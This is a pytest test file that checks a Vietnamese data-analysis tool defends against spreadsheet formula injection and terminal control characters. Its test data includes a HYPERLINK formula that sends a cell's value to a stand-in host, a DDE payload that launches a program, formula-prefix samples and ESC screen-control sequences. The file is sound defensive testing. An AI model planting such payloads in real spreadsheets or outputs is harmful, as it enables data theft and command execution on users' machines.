"""Text that is dangerous where it is written: formulas typed into cells (a live link, a DDE
prompt once in the findings workbook) and control characters (ESC sequences that drive the
terminal, NUL bytes left by a failing USB stick, every C0 character and DEL).

Each case reads as its neighbours in ``test_text``; besides its findings, the findings
workbook written from them must hold every text as a text cell, with control characters shown
as ``\\xHH``, and the terminal lines must carry no control character.
"""

from __future__ import annotations

import io
import re
from pathlib import Path

import openpyxl
import pytest

from analysis.data.findings import ERROR, WARNING
from analysis.run.console import finding_line
from analysis.run.findings_files import write_findings_xlsx

from .build import ALL, LIGHT, Built, Expect, Input, Registry, check

CASES = Registry(LIGHT)
ORGS = "organizations.csv"
MISMATCH = frozenset({"summary_detail_mismatch"})
HYPERLINK = '=HYPERLINK("http://example.com/?d="&A1,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"
#: Every C0 control character and DEL.
CONTROLS = [chr(c) for c in range(0x20)] + ["\x7f"]
#: What the reader treats as whitespace (a multi-line cell) rather than as a control character.
WHITESPACE = {"\t", "\n", "\r"}
CONTROL_TEXT = "các ký tự này đã được bỏ đi khi đọc"
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f]")


def _shown(ch: str) -> str:
    """How a control character must appear in a file or a terminal: ``\\x1b``."""
    return f"\\x{ord(ch):02x}"


# --- formulas ---------------------------------------------------------------------------------
@CASES.add("hyperlink_formula_in_a_code")
def _(inp: Input, tmp: Path) -> Built:
    """A code cell holding a link formula: refused as a code, and only that (it is not an
    upper-case code to lower)."""
    i = 12
    inp.cells[("organizations", i, "org_code")] = HYPERLINK
    return Built(inp.csv_folder(tmp / "csv"), [Expect(
        ERROR, "code_invalid", ORGS, "organizations", inp.excel_row(i), "org_code",
        f"Mã «{HYPERLINK}» không hợp lệ: mã không được chứa «/»")],
        allow=frozenset({"required_empty", *MISMATCH}))


@CASES.add("dde_payload_in_a_count")
def _(inp: Input, tmp: Path) -> Built:
    i = 21
    inp.cells[("organizations", i, "admissions")] = DDE
    return Built(inp.csv_folder(tmp / "csv"), [Expect(
        ERROR, "not_a_number", ORGS, "organizations", inp.excel_row(i), "admissions",
        f"«{DDE}» không phải là số; cột này cần một số nguyên.")], allow=MISMATCH)


@CASES.add("hyperlink_formula_in_a_workbook_count")
def _(inp: Input, tmp: Path) -> Built:
    """In a workbook the link is a real formula (no cached value): its text is the value."""
    i = 6
    inp.cells[("organizations", i, "inspections")] = HYPERLINK
    path = inp.xlsx(tmp / "so_lieu.xlsx")
    return Built(path, [Expect(
        ERROR, "formula_no_value", "so_lieu.xlsx", "TCCSĐ", inp.excel_row(i),
        "Cuộc kiểm tra, giám sát", f"Ô có công thức «{HYPERLINK}»")], allow=MISMATCH)


# --- control characters -----------------------------------------------------------------------
@CASES.add("every_control_character_in_counts")
def _(inp: Input, tmp: Path) -> Built:
    """Row k's admissions is its number followed by control character k: each is removed with
    a warning naming the cell (NUL: one warning for the file), and the numbers stay exact."""
    orgs = inp.rows["organizations"]
    expect = []
    for k, ch in enumerate(CONTROLS):
        inp.cells[("organizations", k, "admissions")] = orgs[k]["admissions"] + ch
        if ch not in WHITESPACE and ch != "\x00":
            expect.append(Expect(
                WARNING, "control_character", ORGS, "organizations", inp.excel_row(k),
                "admissions", f"«{orgs[k]['admissions']}{_shown(ch)}»"))
    expect.append(Expect(WARNING, "nul_bytes", ORGS, "organizations", inp.excel_row(0),
                         "", "có 1 ký tự rỗng (NUL, \\x00), từ dòng 2"))
    assert len(expect) == 30
    return Built(inp.csv_folder(tmp / "csv"), expect, numbers=inp)


@CASES.add("esc_sequence_in_a_unit_name", tables=ALL)
def _(inp: Input, tmp: Path) -> Built:
    """«clear screen, red» typed into a name, as a pasted terminal log would carry it."""
    i = inp.index("units", code="viet_yen")
    inp.cells[("units", i, "name")] = "Huyện Việt Yên\x1b[2J\x1b[31m"
    return Built(inp.csv_folder(tmp / "csv"), [Expect(
        WARNING, "control_character", "units.csv", "units", inp.excel_row(i), "name",
        "«Huyện Việt Yên\\x1b[2J\\x1b[31m»")], numbers=inp)


@CASES.add("csv_padded_with_nul_bytes")
def _(inp: Input, tmp: Path) -> Built:
    """A copy off a failing USB stick: the file ends in a 4 KiB block of NUL bytes."""
    folder = inp.csv_folder(tmp / "csv")
    path = folder / ORGS
    path.write_bytes(path.read_bytes() + b"\x00" * 4096)
    last = inp.excel_row(len(inp.rows["organizations"]))  # the line after the last row
    return Built(folder, [Expect(WARNING, "nul_bytes", ORGS, "organizations", last, "",
                                 f"Tệp «{ORGS}» có 4.096 ký tự rỗng (NUL, \\x00), từ dòng "
                                 f"{last}")], numbers=inp)


@CASES.add("nul_after_a_count")
def _(inp: Input, tmp: Path) -> Built:
    """«1\\x00»: the NUL goes, the 1 stays (and the file-level warning names the row)."""
    i = inp.first("organizations", lambda r: r["members_failed"] == "1")
    inp.cells[("organizations", i, "members_failed")] = "1\x00"
    return Built(inp.csv_folder(tmp / "csv"), [Expect(
        WARNING, "nul_bytes", ORGS, "organizations", inp.excel_row(i), "",
        f"có 1 ký tự rỗng (NUL, \\x00), từ dòng {inp.excel_row(i)}")], numbers=inp)


# --- the tests --------------------------------------------------------------------------------
def _assert_findings_workbook_safe(path: Path) -> list[str]:
    """No formula, no raw control character in any cell; returns every text cell's value."""
    wb = openpyxl.load_workbook(path)  # data_only=False: formulas would show as such
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not RAW_CONTROL.search(cell.value), (cell.coordinate, cell.value)
                    texts.append(cell.value)
    return texts


@pytest.mark.parametrize("case_id", CASES.ids())
def test_unsafe_text_case(case_id, tmp_path):
    built = CASES.build(case_id, tmp_path)
    result = check(built)
    frame = result.findings_frame()
    out = write_findings_xlsx(frame, tmp_path / "findings.xlsx")
    texts = _assert_findings_workbook_safe(out)
    for rec in frame.to_dict("records"):
        assert not RAW_CONTROL.search(finding_line(rec)), finding_line(rec)
    if case_id == "hyperlink_formula_in_a_code":
        assert HYPERLINK in texts  # the value, as text
        assert not [f for f in result.findings if f.rule == "code_uppercase"]
    if case_id == "dde_payload_in_a_count":
        assert DDE in texts
    if case_id == "hyperlink_formula_in_a_workbook_count":
        assert HYPERLINK in texts
    if case_id == "esc_sequence_in_a_unit_name":
        names = result.data.tables["units"].set_index("code")["name"]
        assert names["viet_yen"] == "Huyện Việt Yên[2J[31m"
        assert "Huyện Việt Yên\\x1b[2J\\x1b[31m" in texts
    if case_id == "every_control_character_in_counts":
        shown = {m for t in texts for m in re.findall(r"\\x[0-9a-f]{2}", t)}
        assert shown >= {_shown(ch) for ch in CONTROLS if ch not in WHITESPACE}


def test_printed_findings_show_control_characters(tmp_path):
    """The terminal gets «\\x1b», never ESC itself (rich strips neither ESC nor NUL)."""
    from rich.console import Console

    from analysis.run.console import print_findings

    result = check(CASES.build("esc_sequence_in_a_unit_name", tmp_path))
    frame = result.findings_frame()
    frame.loc[0, "file"] = "bad\x1b]0;title\x07.csv"  # even a file name
    buf = io.StringIO()
    print_findings(frame, "thư\x1bmục", console=Console(file=buf, width=1000, color_system=None))
    printed = buf.getvalue()
    assert not RAW_CONTROL.search(printed), repr(printed)
    assert "Huyện Việt Yên\\x1b[2J\\x1b[31m" in printed
    assert "bad\\x1b]0;title\\x07.csv" in printed and "thư\\x1bmục" in printed


# --- every workbook and CSV the suite writes --------------------------------------------------
#: Names a district might type, each a formula to a spreadsheet application (OWASP's list).
FORMULA_NAMES = [HYPERLINK, DDE, "+1+2", "-2+3", "@SUM(A1:A2)", "=1+1"]


def _hostile_tables(tmp_path: Path):
    """The full slice with formula-like commune names and an ESC in the district's name."""
    inp = Input(ALL)
    communes = [i for i, u in enumerate(inp.rows["units"]) if u["level"] == "commune"]
    for i, name in zip(communes, FORMULA_NAMES, strict=False):
        inp.rows["units"][i]["name"] = name
    j = inp.index("units", code="viet_yen")
    inp.rows["units"][j]["name"] = "Huyện Việt Yên\x1b[31m"
    result = check(Built(inp.csv_folder(tmp_path / "csv"), [Expect(
        WARNING, "control_character", "units.csv", "units", inp.excel_row(j), "name",
        "Huyện Việt Yên\\x1b[31m")]))
    return result


def test_every_workbook_the_suite_writes_holds_user_text_as_text(tmp_path):
    """findings.xlsx, a unit's findings, the filled template, a pre-filled workbook and the
    appendix: no cell is a formula, every formula-like name is there as text."""
    import pandas as pd

    from analysis.data import prefill
    from analysis.data.template import write_workbook
    from analysis.present.appendix import write_appendix_xlsx
    from analysis.run.findings_files import write_unit_findings

    result = _hostile_tables(tmp_path)
    tables = result.data.tables
    names = tables["units"].set_index("code")["name"]
    assert names["viet_yen"] == "Huyện Việt Yên[31m"
    frame = result.findings_frame()
    hostile = pd.DataFrame([{
        "severity": "error", "file": "=cmd.csv", "sheet": "+s", "row": 3, "column": "@c",
        "value": HYPERLINK, "message": DDE, "rule": "not_a_number", "unit_code": "viet_yen",
        "year": 2020}, {
        "severity": "warning", "file": "a\x1b.csv", "sheet": "s\x00", "row": None,
        "column": "c\x07", "value": "1\x00", "message": "m\x1b[2J", "rule": "r",
        "unit_code": "viet_yen", "year": None}])
    frame = pd.concat([frame, hostile], ignore_index=True)

    written = {
        "findings.xlsx": write_findings_xlsx(frame, tmp_path / "findings.xlsx"),
        "findings/viet_yen.xlsx": write_unit_findings(frame, tmp_path / "findings")[0],
        "template": write_workbook(tables, tmp_path / "mau.xlsx"),
        "prefill": prefill.write_unit_workbook(tables, "viet_yen", 2020,
                                               tmp_path / "2020_viet_yen.xlsx"),
    }
    communes = tables["units"][tables["units"]["level"] == "commune"]
    appendix = pd.DataFrame({"Đơn vị": communes["name"].tolist(), 2020: range(len(communes))},
                            index=pd.Index(communes["code"].tolist(), name="unit_code"))
    appendix.attrs = {"unit": "count", "levels": {c: "district" for c in appendix.index},
                      "total_code": None, "part_years": [], "series_breaks": {}}
    written["appendix.xlsx"] = write_appendix_xlsx(
        [{"number": 1, "title_vi": "Thử", "frame": appendix, "unit_label": "người"}],
        tmp_path / "appendix.xlsx")
    for what, path in written.items():
        texts = _assert_findings_workbook_safe(path)
        if what.startswith("findings"):
            for text in (HYPERLINK, DDE, "=cmd.csv", "+s", "@c", "1\\x00", "m\\x1b[2J",
                         "a\\x1b.csv"):
                assert text in texts, (what, text)
        else:
            for name in FORMULA_NAMES:
                assert any(name in t for t in texts), (what, name)


def test_csv_outputs_are_not_formulas():
    """OWASP: a cell starting with = + - @, a tab or a CR gets a leading «'»; numbers stay."""
    import pandas as pd

    from analysis.textsafe import csv_frame

    frame = pd.DataFrame({"name": [HYPERLINK, "+1", "-x", "@a", "\tb", "\rc", "Sơn Động",
                                   "a\x1bb", None],
                          "n": [-1, 2, 3, 4, 5, 6, 7, 8, 9]})
    frame["s"] = frame["name"].astype("string")
    out = csv_frame(frame)
    expected = ["'" + HYPERLINK, "'+1", "'-x", "'@a", "'\tb", "'\\x0dc", "Sơn Động",
                "a\\x1bb", None]
    for col in ("name", "s"):
        assert [None if pd.isna(v) else v for v in out[col]] == expected, col
    assert out["n"].tolist() == [-1, 2, 3, 4, 5, 6, 7, 8, 9]
    assert frame["name"].iat[0] == HYPERLINK  # a copy


def test_every_control_character_through_validate_and_build(tmp_path):
    """Every C0 character and DEL, in counts, a name and a code: validate and build (tables
    only) end without a traceback, write the findings workbook, and print none of them."""
    import os
    import subprocess
    import sys

    from analysis import config

    inp = Input(LIGHT)
    orgs = inp.rows["organizations"]
    for k, ch in enumerate(CONTROLS):
        inp.cells[("organizations", k, "admissions")] = orgs[k]["admissions"] + ch
        inp.cells[("organizations", 40 + k, "org_code")] = ch + orgs[40 + k]["org_code"]
    j = inp.index("units", code="viet_yen")
    inp.rows["units"][j]["name"] = "Huyện " + "".join(CONTROLS) + "Việt Yên"
    folder = inp.csv_folder(tmp_path / "csv")
    env = {**os.environ, "COLUMNS": "1000", "TERM": "dumb", "NO_COLOR": "1",
           "TCCSD_OUTPUTS": str(tmp_path / "outputs")}
    runs = {
        "validate": ["validate", str(folder), "--out", str(tmp_path / "v" / "findings.xlsx")],
        "build": ["build", "--data", str(folder), "--tables-only", "--unit", "viet_yen",
                  "--out", str(tmp_path / "b")],
    }
    for what, args in runs.items():
        out = subprocess.run([sys.executable, "-m", "analysis", *args], capture_output=True,
                             text=True, cwd=config.PROJ_ROOT, env=env, timeout=300)
        both = out.stdout + out.stderr
        assert "Traceback" not in both, (what, both[-3000:])
        assert out.returncode in (0, 1), (what, out.returncode, both[-3000:])
        assert not RAW_CONTROL.search(out.stdout), (what, repr(out.stdout[-2000:]))
        book = tmp_path / ("v" if what == "validate" else "b") / "findings.xlsx"
        texts = _assert_findings_workbook_safe(book)
        assert any("Huyện \\x01" in t for t in texts), what
    summary = (tmp_path / "b" / "tables" / "summary.csv").read_text(encoding="utf-8-sig")
    assert "viet_yen" in summary and not RAW_CONTROL.search(summary)
    assert not (tmp_path / "outputs").exists()
